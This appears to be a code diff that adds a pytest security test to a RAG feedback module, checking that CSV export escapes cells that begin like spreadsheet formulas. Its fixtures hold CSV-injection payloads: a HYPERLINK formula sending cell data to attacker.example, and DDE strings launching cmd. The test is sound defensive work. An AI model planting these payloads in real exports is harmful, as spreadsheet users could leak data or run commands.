@@ -18,6 +18,7 @@ from rag_core.feedback.analytics import (
     by_day,
     by_document,
     by_mode,
+    csv_cell,
     dislike_cause,
     dislike_causes,
     most_disliked,
@@ -255,6 +256,33 @@ def test_csv_export_has_one_line_per_row(rated: FeedbackStore):
         "cited_wrong",
     ]
     assert lines[0]["cited_pages"] == "orchard.pdf p.3"
+
+
+@pytest.mark.security
+def test_csv_cells_that_start_like_a_formula_stay_text(rated: FeedbackStore):
+    """OWASP CSV injection: a spreadsheet would run these cells; a leading ' keeps them text."""
+    record = rated.records()[1]  # a thumbs-down citing orchard.pdf page 3
+    citation = replace(record.citations[0], doc_name="@SUM(1+1)*cmd|' /C calc'!A0.pdf")
+    attack = replace(
+        record,
+        comment='=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+        question="+1+cmd|' /C calc'!A0",
+        searched_query="-2+3",
+        answer="\tTAB=1+1",
+        session_id="\rCR=1",
+        citations=(citation,),
+    )
+    [line] = list(csv.DictReader(io.StringIO(to_csv([attack]))))
+    assert line["comment"] == '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+    assert line["question"] == "'+1+cmd|' /C calc'!A0"
+    assert line["searched_query"] == "'-2+3"
+    assert line["answer"] == "'\tTAB=1+1"
+    assert line["session_id"] == "'\rCR=1"
+    assert line["cited_documents"] == "'@SUM(1+1)*cmd|' /C calc'!A0.pdf"
+    assert line["cited_pages"] == "'@SUM(1+1)*cmd|' /C calc'!A0.pdf p.3"
+    assert (line["vote"], line["id"]) == ("-1", str(record.id))  # numbers stay numbers
+    assert (line["mode"], line["dislike_cause"]) == ("extractive", "cited_wrong")
+    assert csv_cell("a = b") == "a = b" and csv_cell(-1) == -1 and csv_cell("") == ""
 
 
 @pytest.mark.slow
